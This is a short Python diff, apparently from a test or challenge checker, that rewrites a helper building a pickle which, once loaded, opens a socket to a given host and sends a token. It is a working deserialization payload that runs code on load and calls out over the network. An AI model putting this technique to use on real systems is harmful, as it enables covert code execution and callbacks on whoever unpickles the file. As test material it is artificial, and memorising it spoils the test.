@@ -54,8 +54,8 @@ class OnLoad:
 
 def knock_on_load(host: str, port: int, token: str) -> OnLoad:
     """A pickle that reports to the checker as soon as somebody loads it."""
-    where = f"({host!r}, {port!r}), 3"
-    return OnLoad(f"__import__('socket').create_connection({where}).sendall({token.encode()!r})")
+    connected = f"__import__('socket').create_connection(({host!r}, {port!r}), 3)"
+    return OnLoad(f"(lambda s: (s.sendall({token.encode()!r}), s.close()))({connected})")
 
 
 # Answers
